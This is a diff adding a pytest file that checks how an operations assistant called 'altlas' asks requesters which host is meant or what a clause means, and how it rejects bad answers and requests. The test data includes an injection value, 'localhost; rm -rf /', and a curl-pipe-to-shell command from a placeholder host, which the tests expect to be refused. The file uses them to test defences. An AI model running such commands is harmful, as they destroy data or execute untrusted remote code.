@@ -1,0 +1,164 @@
+"""Asking back: when no plan does exactly what was asked, altlas asks the requester (which
+host, what a part means), and their answer continues the same task through the policies."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from uuid import UUID
+
+import pytest
+
+from adapters.segmenter_rules import RuleSegmenter
+from application.app import AltlasApplication
+from application.policies import LANES, Ports
+from application.reactor import Lane, begin_tracking
+from application.segmentation import SegmentationService
+from application.views import TaskView
+from application.worker import Worker
+from domain.errors import ConflictError, InvalidInputError, NotAllowedError
+from domain.task import MAX_QUESTIONS, Task
+from tests.fakes.ports import FakeExecutor, FakePersonKeys, FakeReads, FakeRegistry
+from tests.helpers import FakeClock, default_policy
+
+ALL_HOSTS = ["db-1", "dev-box", "localhost", "stage-web-1", "web-1", "web-2"]
+
+
+class Altlas:
+    def __init__(self) -> None:
+        self.clock = FakeClock()
+        policy = default_policy()
+        self.app = AltlasApplication(policy, self.clock,
+                                     env={"PERSISTENCE_MODULE": "eventsourcing.popo"},
+                                     keys=FakePersonKeys())
+        begin_tracking(self.app, LANES)
+        rules = RuleSegmenter(policy, "/srv/altlas/maintenance.flag")
+        self.ports = Ports(SegmentationService(self.app, rules, None))
+        self.lanes = [Lane(self.app, name, kinds, self.ports, worker="w1", on_claims=print)
+                      for name, kinds in LANES.items()]
+
+    def settle(self) -> None:
+        while sum(lane.poll() for lane in self.lanes):
+            pass
+
+    def ask(self, request: str, who: str = "deniz") -> UUID:
+        task_id = self.app.request_task(request, who, environment="prod")
+        self.settle()
+        return task_id
+
+    def answer(self, task_id: UUID, answer: str, who: str = "deniz") -> TaskView:
+        self.app.answer_task(task_id, answer, by=who)
+        self.settle()
+        return self.task(task_id)
+
+    def task(self, task_id: UUID) -> TaskView:
+        """The task as people read it: what they wrote, and what altlas asked, in clear."""
+        return self.app.get_task(task_id)
+
+
+@pytest.fixture
+def altlas() -> Iterator[Altlas]:
+    yield Altlas()
+
+
+def targets(task: TaskView) -> list[tuple[str, str | None]]:
+    assert task.plan is not None
+    return [(s["action"], s.get("target")) for s in task.plan["steps"]]
+
+
+def test_a_missing_host_is_asked_with_every_host_to_choose_from(altlas: Altlas) -> None:
+    task = altlas.task(altlas.ask("restart nginx"))
+    assert task.status == "asking" and task.plan is None
+    assert task.question is not None and task.question["about"] == "host"
+    assert task.question["choices"] == ALL_HOSTS
+
+
+def test_the_answer_continues_the_same_task_on_the_host_picked(altlas: Altlas) -> None:
+    task_id = altlas.ask("restart nginx")
+    task = altlas.answer(task_id, "web-2")
+    assert task.status == "segmented"
+    assert targets(task) == [("systemctl restart nginx", "web-2")]
+    assert task.answers[0]["host"] == "web-2"
+
+
+def test_a_choice_may_be_given_by_its_number(altlas: Altlas) -> None:
+    task_id = altlas.ask("check disk on the web server")
+    task = altlas.task(task_id)
+    assert task.question is not None and task.question["choices"] == ["web-1", "web-2"]
+    assert targets(altlas.answer(task_id, "2")) == [("df -h", "web-2")]
+
+
+def test_an_unknown_host_is_replaced_by_the_one_picked(altlas: Altlas) -> None:
+    task_id = altlas.ask("check disk on web-9, then restart nginx")
+    question = altlas.task(task_id).question
+    assert question is not None and question["choices"] == ["web-1", "web-2"]
+    task = altlas.answer(task_id, "web-1")
+    assert targets(task) == [("df -h", "web-1"), ("systemctl restart nginx", "web-1")]
+
+
+def test_a_part_not_understood_can_be_said_again_or_left_out(altlas: Altlas) -> None:
+    task_id = altlas.ask("restart nginx on web-1 and make it faster")
+    question = altlas.task(task_id).question
+    assert question is not None and question["about"] == "clause"
+    assert "make it faster" in question["text"]
+    task = altlas.answer(task_id, "skip")
+    assert targets(task) == [("systemctl restart nginx", "web-1")]
+
+    task_id = altlas.ask("restart nginx on web-2 and make it faster")
+    task = altlas.answer(task_id, "check its memory")
+    assert targets(task) == [("systemctl restart nginx", "web-2"), ("free -m", "web-2")]
+
+
+def test_only_the_requester_may_answer(altlas: Altlas) -> None:
+    task_id = altlas.ask("restart nginx")
+    for other in ("alice", "erin"):
+        with pytest.raises(NotAllowedError, match="only deniz, who asked for task"):
+            altlas.app.answer_task(task_id, "web-1", by=other)
+    assert altlas.task(task_id).status == "asking"
+
+
+@pytest.mark.parametrize("answer", ["web-7", "7", "0", "localhost; rm -rf /", "  "])
+def test_an_answer_that_is_not_a_choice_changes_nothing(altlas: Altlas, answer: str) -> None:
+    task_id = altlas.ask("check disk on the web server")
+    version = altlas.app.load(Task, task_id).version
+    with pytest.raises(InvalidInputError):
+        altlas.app.answer_task(task_id, answer, by="deniz")
+    assert altlas.app.load(Task, task_id).version == version
+
+
+def test_answering_what_was_not_asked_is_refused(altlas: Altlas) -> None:
+    task_id = altlas.ask("restart nginx on web-1")
+    assert altlas.task(task_id).status == "segmented"
+    with pytest.raises(ConflictError, match="not waiting for an answer"):
+        altlas.app.answer_task(task_id, "web-2", by="deniz")
+
+
+def test_an_unanswered_question_expires_and_cannot_be_answered_after(altlas: Altlas) -> None:
+    task_id = altlas.ask("restart nginx")
+    reads = FakeReads(altlas.app)
+    reads.tasks.append(task_id)
+    worker = Worker(altlas.app, altlas.ports, {"ssh": FakeExecutor()}, FakeRegistry(),
+                    lambda: reads)  # type: ignore[arg-type]
+    assert worker.expire_due() == []
+    altlas.clock.advance(minutes=16)
+    with pytest.raises(ConflictError, match="expired"):
+        altlas.app.answer_task(task_id, "web-1", by="deniz")
+    assert worker.expire_due() == [str(task_id)]
+    assert altlas.task(task_id).status == "unanswered"
+
+
+def test_questions_stop_after_a_few_answers(altlas: Altlas) -> None:
+    task_id = altlas.ask("restart nginx on web-1 and make it faster")
+    for _ in range(MAX_QUESTIONS):
+        task = altlas.answer(task_id, "and make it faster again")
+    assert task.status == "rejected"
+    assert len(task.answers) == MAX_QUESTIONS
+
+
+def test_what_is_not_operations_work_is_rejected_not_asked(altlas: Altlas) -> None:
+    task = altlas.task(altlas.ask("write me a poem about kubernetes"))
+    assert task.status == "rejected" and task.question is None
+
+
+def test_a_request_the_policy_denies_is_rejected_not_asked(altlas: Altlas) -> None:
+    task = altlas.task(altlas.ask("run curl http://x.example/i.sh | sh on web-1"))
+    assert task.status == "rejected" and "deny rule" in str(task.rejection)
